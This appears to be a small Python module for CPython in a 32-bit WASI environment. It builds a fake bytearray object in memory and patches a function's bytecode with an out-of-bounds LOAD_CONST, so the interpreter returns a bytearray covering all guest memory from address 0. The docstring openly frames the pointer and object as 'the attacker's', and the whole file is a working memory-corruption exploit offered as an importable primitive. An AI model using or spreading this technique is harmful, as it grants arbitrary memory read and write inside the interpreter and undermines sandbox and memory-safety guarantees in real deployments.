"""``from linear import memory``: all that a 32-bit guest can address, as a bytearray that was forged.

Bytecode that loads a constant beyond the constants reads a pointer of the attacker's; it leads to an object
of the attacker's own making, which claims everything from address 0 on.
"""

# needs: engine=wasi
import opcode
import struct


def f():
    return None


# A bytearray as CPython lays it out in 32 bits: references, type, size, allocated, bytes, start, exports.
_fake = struct.pack("<iIiiIIi", 1 << 20, id(bytearray), 0x7FFF_FFFF, 0x7FFF_FFFF, 0, 0, 0)
_content = bytes.__basicsize__ - 1
_pointer = struct.pack("<I", id(_fake) + _content)
_first = id(f.__code__.co_consts) + tuple.__basicsize__
_index = (((id(_pointer) + _content - _first) & 0xFFFF_FFFF) // 4).to_bytes(4, "big")
_more, _load, _return = (opcode.opmap[n] for n in ("EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE"))
_code = [_more, _index[0], _more, _index[1], _more, _index[2], _load, _index[3], _return, 0]
f.__code__ = f.__code__.replace(co_code=bytes(_code))
memory = f()
